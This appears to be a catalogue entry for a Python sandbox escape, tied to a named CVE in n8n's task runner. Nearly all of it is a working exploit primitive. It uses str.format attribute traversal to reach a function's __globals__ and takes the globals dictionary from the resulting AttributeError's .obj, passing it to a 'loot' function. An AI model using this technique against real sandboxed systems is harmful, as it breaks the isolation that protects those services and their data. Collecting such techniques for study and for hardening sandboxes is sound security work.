# aim: get an object from the error of a format that reads too far
# mechanism: str.format walks to __globals__, fails at the next name, and the AttributeError holds the dictionary
# source: CVE-2026-0863 (n8n's Python task runner)
# language: builtins
# reason: format strings obey the table of names
# jail: process
# plain: loot
import json
try:
    "{0.__globals__.nothing}".format(json.dumps)
except AttributeError as error:
    loot(error.obj)
